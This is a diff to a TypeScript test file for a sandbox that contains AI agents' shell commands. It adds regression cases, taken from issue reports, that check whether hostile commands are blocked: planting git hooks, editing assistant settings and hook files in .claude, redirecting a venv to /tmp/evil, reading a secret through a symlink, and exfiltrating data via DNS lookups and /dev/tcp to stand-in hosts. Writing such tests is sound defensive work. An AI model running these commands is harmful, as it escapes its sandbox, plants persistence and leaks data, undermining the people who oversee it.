@@ -3,14 +3,23 @@ import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileS
 import path from 'node:path';
 import { after, before, beforeEach, describe, it } from 'mocha';
 import { skipWithout } from '../../support/needs.ts';
-import { openSandboxed, people, type Sandboxed, secret, type World } from './sandboxed.ts';
+import {
+  openSandboxed,
+  people,
+  type RunnerAnswer,
+  type RunnerInput,
+  type Sandboxed,
+  secret,
+  type World,
+} from './sandboxed.ts';
 
 interface Report {
   name: string;
   setup(world: World): void;
   line: string;
   /** What was printed, and the workspace afterwards. */
-  holds(text: string, world: World): boolean;
+  holds(text: string, world: World, answer: Extract<RunnerAnswer, { text: string }>): boolean;
+  more?: Partial<RunnerInput>;
 }
 
 const reports: readonly Report[] = [
@@ -52,6 +61,65 @@ const reports: readonly Report[] = [
     line: 'echo runs',
     holds: (text, { ws }) => text === 'runs\n' && !existsSync(path.join(ws, 'planted')),
   },
+  {
+    name: 'openai/codex#37081 hooks and settings of a repository inside of the workspace',
+    setup({ ws }) {
+      for (const name of ['hooks', 'objects', 'refs'])
+        mkdirSync(path.join(ws, 'vendor/sub/.git', name), { recursive: true });
+      writeFileSync(path.join(ws, 'vendor/sub/.git/HEAD'), 'ref: refs/heads/main\n');
+      writeFileSync(path.join(ws, 'vendor/sub/.git/config'), '[core]\n');
+    },
+    line: 'echo x > vendor/sub/.git/hooks/pre-commit; echo x >> vendor/sub/.git/config; mv vendor/sub gone; echo runs',
+    holds: (text, { ws }) =>
+      text.endsWith('runs\n') &&
+      !existsSync(path.join(ws, 'vendor/sub/.git/hooks/pre-commit')) &&
+      readFileSync(path.join(ws, 'vendor/sub/.git/config'), 'utf8') === '[core]\n',
+  },
+  {
+    name: 'cisco-ai-defense/defenseclaw#573 the interpreter of an environment led elsewhere is told',
+    setup({ ws }) {
+      mkdirSync(path.join(ws, '.venv/bin'), { recursive: true });
+      writeFileSync(path.join(ws, '.venv/pyvenv.cfg'), 'home = /usr/bin\n');
+    },
+    line: 'echo home = /tmp/evil > .venv/pyvenv.cfg; echo runs',
+    holds: (text, _, { loaded }) => text === 'runs\n' && loaded?.join() === '.venv/pyvenv.cfg',
+  },
+  {
+    name: 'rappdw/sandy#79 hooks in the settings of an assistant, those that are there and new ones',
+    setup({ ws }) {
+      mkdirSync(path.join(ws, '.claude'));
+      writeFileSync(path.join(ws, '.claude/settings.json'), '{}');
+    },
+    line: 'echo x > .claude/settings.json; echo x > .claude/settings.local.json; mkdir .claude/hooks; echo x > .claude/hooks/h.sh; echo runs',
+    holds: (text, { ws }) =>
+      text.endsWith('runs\n') &&
+      readFileSync(path.join(ws, '.claude/settings.json'), 'utf8') === '{}' &&
+      !['settings.local.json', 'hooks'].some((name) => existsSync(path.join(ws, '.claude', name))),
+  },
+  {
+    name: 'rappdw/sandy#209 a link in the workspace to what the extension keeps',
+    setup({ ws, state }) {
+      writeFileSync(path.join(state, '../kept'), secret);
+      symlinkSync(path.join(state, '..'), path.join(ws, 'link'));
+    },
+    line: 'cat link/kept; ls link/; echo x > link/new; echo runs',
+    holds: (text, { state }) =>
+      text.endsWith('runs\n') && !text.includes(secret) && !existsSync(path.join(state, '../new')),
+  },
+  {
+    name: 'NVIDIA/OpenShell#1169 what a name is asked for leaves with nobody’s consent',
+    setup: () => undefined,
+    line: 'getent hosts aaaa.exfil.example.org | cut -c1-4; echo runs',
+    more: { answer: 'refuse' },
+    holds: (text, _, { asked, reached }) => text === '127.\nruns\n' && asked?.length === 0 && reached?.length === 0,
+  },
+  {
+    name: 'rappdw/sandy#154 names asked of a server by https are a host to be asked about',
+    setup: () => undefined,
+    line: 'bash -c "exec 3<>/dev/tcp/dns.example.org/443; echo >&3; head -c 1 <&3" 2>/dev/null; echo runs',
+    more: { answer: 'refuse' },
+    holds: (text, _, { reached }) => text.endsWith('runs\n') && reached?.length === 0,
+  },
 ];
 
 for (const { who, user, owner } of people) {
@@ -67,14 +135,14 @@ for (const { who, user, owner } of people) {
     beforeEach(() => sandboxed.newWorkspace());
     after(() => sandboxed?.close());
 
-    for (const { name, setup, line, holds } of reports)
+    for (const { name, setup, line, holds, more } of reports)
       it(`F31 X52 ${name}`, async () => {
         const { world } = sandboxed;
         setup(world);
         await sandboxed.give(world.ws);
-        const answer = await sandboxed.run(line);
+        const answer = await sandboxed.run(line, more);
         assert.ok('text' in answer, JSON.stringify(answer));
-        assert.ok(holds(answer.text, world), answer.text);
+        assert.ok(holds(answer.text, world, answer), JSON.stringify(answer));
       });
 
     it('F31 openai/codex#20716 where a folder of settings is a link, commands ask and say so', async () => {
